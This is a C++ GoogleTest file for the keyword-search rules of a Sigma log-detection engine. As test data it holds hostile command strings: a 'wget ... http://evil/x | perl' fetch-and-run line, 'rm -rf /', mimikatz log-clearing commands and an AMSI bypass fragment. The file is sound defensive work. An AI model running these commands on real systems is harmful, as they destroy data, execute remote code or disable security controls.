// Keyword searches (rules specification, "Keywords search": "searching for keywords across an
// entire event ... built by using a list under a search-identifier"; "Lists": strings "applied
// to the full log message and ... linked with a logical 'OR'"; `'|all':` for AND).
#include <gtest/gtest.h>

#include "sigma_test_util.h"

using namespace lachan::sigma::test;

TEST(Keywords, PlainListIsOrAnywhereInAnyField) {
  Engine e(make_rule("  mimikatz_keywords:\n    - 'event::clear'\n    - 'event::drop'\n  condition: mimikatz_keywords\n"));
  EXPECT_TRUE(e.fires(R"({"CommandLine":"mimikatz.exe event::clear exit"})"));
  EXPECT_TRUE(e.fires(R"({"a":{"b":"x","c":["y","privilege::debug event::drop"]}})"));
  EXPECT_TRUE(e.fires(R"({"Message":"event::drop"})"));
  EXPECT_FALSE(e.fires(R"({"CommandLine":"event:: clear"})"));
  EXPECT_FALSE(e.fires(R"({"event::clear":"field names are not searched"})"));
}

TEST(Keywords, CaseInsensitive) {
  Engine e(make_rule("  keywords:\n    - 'EVILSERVICE'\n    - 'svchost.exe -n evil'\n  condition: keywords\n"));
  EXPECT_TRUE(e.fires(R"({"ServiceName":"EvilService"})"));
  EXPECT_TRUE(e.fires(R"({"ImagePath":"C:\\Windows\\SVCHOST.EXE -N EVIL"})"));
  EXPECT_FALSE(e.fires(R"({"ServiceName":"GoodService"})"));
}

// "To have a **and** operator, we use the `'|all':` modifier".
TEST(Keywords, AllModifierIsAnd) {
  Engine e(make_rule("  keywords_cmdlet:\n    '|all':\n      - 'OabVirtualDirectory'\n      - ' -ExternalUrl '\n"
                     "  condition: keywords_cmdlet\n"));
  EXPECT_TRUE(e.fires(R"({"Payload":"Set-OabVirtualDirectory -ExternalUrl http://x"})"));
  EXPECT_TRUE(e.fires(R"({"a":"oabvirtualdirectory","b":"x -externalurl y"})"));  // in different fields
  EXPECT_FALSE(e.fires(R"({"Payload":"Set-OabVirtualDirectory -InternalUrl http://x"})"));
}

TEST(Keywords, SingleScalarKeyword) {
  Engine e(make_rule("  keywords: 'rm -rf /'\n  condition: keywords\n"));
  EXPECT_TRUE(e.fires(R"({"msg":"sudo rm -rf / --no-preserve-root"})"));
  EXPECT_FALSE(e.fires(R"({"msg":"ls"})"));
}

TEST(Keywords, NumbersAndBooleansAreSearchedToo) {
  Engine e(make_rule("  keywords:\n    - '4444'\n  condition: keywords\n"));
  EXPECT_TRUE(e.fires(R"({"DestinationPort":4444})"));
  EXPECT_TRUE(e.fires(R"({"x":"port 14444"})"));
  EXPECT_FALSE(e.fires(R"({"DestinationPort":443})"));
}

// A keyword with wildcards is still searched anywhere in a value, as a keyword without them is
// (SigmaHQ writes e.g. 'Trojan*FOUND' for ClamAV lines "<file>: Win.Trojan.X FOUND").
TEST(Keywords, WildcardKeywordsAreNotAnchored) {
  Engine e(make_rule("  keywords:\n    - 'Trojan*FOUND'\n    - 'wget * - http* | perl'\n  condition: keywords\n"));
  EXPECT_TRUE(e.fires(R"({"message":"/tmp/x.bin: Win.Trojan.Agent-1 FOUND"})"));
  EXPECT_TRUE(e.fires(R"({"message":"Trojan.X FOUND"})"));
  EXPECT_TRUE(e.fires(R"({"message":"bash -c wget -q - http://evil/x | perl; echo"})"));
  EXPECT_FALSE(e.fires(R"({"message":"FOUND Trojan"})"));
  Engine q(make_rule("  keywords:\n    - 'ev?l'\n  condition: keywords\n"));
  EXPECT_TRUE(q.fires(R"({"message":"an evil thing"})"));
  EXPECT_FALSE(q.fires(R"({"message":"an evl thing"})"));
}

TEST(Keywords, CombinedWithFieldSelections) {
  Engine e(make_rule("  sel:\n    EventID: 4104\n  keywords:\n    - 'AmsiUtils'\n  condition: sel and keywords\n"));
  EXPECT_TRUE(e.fires(R"j({"EventID":4104,"ScriptBlockText":"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"})j"));
  EXPECT_FALSE(e.fires(R"({"EventID":4103,"ScriptBlockText":"AmsiUtils"})"));
  EXPECT_FALSE(e.fires(R"({"EventID":4104,"ScriptBlockText":"Get-Process"})"));
}

TEST(Keywords, CasedAndRegexKeywords) {
  Engine c(make_rule("  keywords:\n    '|cased':\n      - 'EVIL'\n  condition: keywords\n"));
  EXPECT_TRUE(c.fires(R"({"m":"so EVIL"})"));
  EXPECT_FALSE(c.fires(R"({"m":"so evil"})"));
  Engine r(make_rule("  keywords:\n    '|re': 'user=[a-z]+ uid=0'\n  condition: keywords\n"));
  EXPECT_TRUE(r.fires(R"({"m":"session opened user=root uid=0"})"));
  EXPECT_FALSE(r.fires(R"({"m":"session opened user=bob uid=1000"})"));
}

// `.{N,}` keyword regexes: "some line of N or more characters", never "any event".
TEST(Keywords, CountedRepetitionRegexKeyword) {
  Engine r(make_rule("  keywords:\n    '|re': '.{20,}'\n  condition: keywords\n"));
  EXPECT_TRUE(r.fires(R"({"m":"01234567890123456789"})"));
  EXPECT_FALSE(r.fires(R"({"m":"short"})"));
}
